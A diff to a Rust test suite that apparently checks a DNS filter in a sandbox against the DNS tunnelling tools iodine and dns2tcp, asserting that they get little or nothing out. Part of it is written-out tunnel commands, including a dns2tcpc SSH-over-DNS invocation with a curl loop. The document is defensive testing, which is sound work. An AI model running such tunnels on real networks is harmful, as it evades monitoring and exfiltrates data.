@@ -1,7 +1,6 @@
 //! Real tunnels under an allowed wildcard whose server the adversary owns: the worst case.
 
 use std::fs;
-use std::time::Duration;
 
 use super::{Net, findings, stage};
 
@@ -20,19 +19,8 @@ fn iodine_gets_no_more_out_than_the_budget() {
     assert!(fs::metadata("/dev/net/tun").is_ok(), "iodine needs /dev/net/tun");
     let mut net = Net::new();
     let gateway = net.gateway.clone();
-    let server = [
-        "-f",
-        "-c",
-        "-4",
-        "-P",
-        "pw",
-        "-l",
-        "127.0.0.1",
-        "-p",
-        "5300",
-        "10.99.0.1",
-        "t.wild.example",
-    ];
+    let server =
+        ["-f", "-c", "-P", "pw", "-l", "127.0.0.1", "-p", "5300", "10.99.0.1", "t.wild.example"];
     net.start(&gateway, "iodined", &server, "Listening to dns");
     net.serve("127.0.0.1:5300");
     let client = [
@@ -74,22 +62,12 @@ fn dns2tcp_gets_nothing_out() {
     let gateway = net.gateway.clone();
     net.start(&gateway, "dns2tcpd", &["-F", "-d", "1", "-f", &path], "isten");
     net.serve("127.0.0.1:5300");
-    let client = [
-        "-k",
-        "2",
-        "6",
-        "dns2tcpc",
-        "-z",
-        "t.wild.example",
-        "-k",
-        "k",
-        "-r",
-        "ssh",
-        "-l",
-        "2222",
-        "10.200.0.1",
-    ];
-    net.inside(&net.sandbox.clone(), "timeout", &client).output().unwrap();
+    // It asks once somebody connects to its end of the tunnel.
+    let script = "dns2tcpc -z t.wild.example -k k -r ssh -l 2222 10.200.0.1 & \
+                  for turn in 1 2 3 4 5 6 7 8; do curl -s -m 3 telnet://127.0.0.1:2222 && break; done; wait";
+    net.inside(&net.sandbox.clone(), "timeout", &["-k", "2", "8", "sh", "-c", script])
+        .output()
+        .unwrap();
     let records = net.records();
     assert!(stage(&records, "denied").count() > 0, "dns2tcp did not even try");
     assert_eq!(stage(&records, "decision").count(), 0, "TXT and KEY are no types of the rule");
@@ -102,7 +80,7 @@ fn case_62_a_query_to_another_resolver_comes_to_the_filter_and_case_63_nothing_e
     net.resolver();
     net.serve("127.0.0.1:5300");
     let rules = "table ip t { chain p { type nat hook prerouting priority dstnat; udp dport 53 redirect; tcp dport 53 redirect; }\n\
-        chain f { type filter hook forward priority 0; policy drop; } }";
+        chain f { type filter hook forward priority 0; policy drop; }\n}\n";
     let file = net.dir.path().join("rules.nft");
     fs::write(&file, rules).unwrap();
     let path = file.display().to_string();
@@ -129,7 +107,6 @@ fn case_62_a_query_to_another_resolver_comes_to_the_filter_and_case_63_nothing_e
             .unwrap();
         assert!(!output.status.success(), "port {port}");
     }
-    drop(Duration::ZERO);
     let records = net.records();
     assert_eq!(stage(&records, "decision").count(), 1);
 }
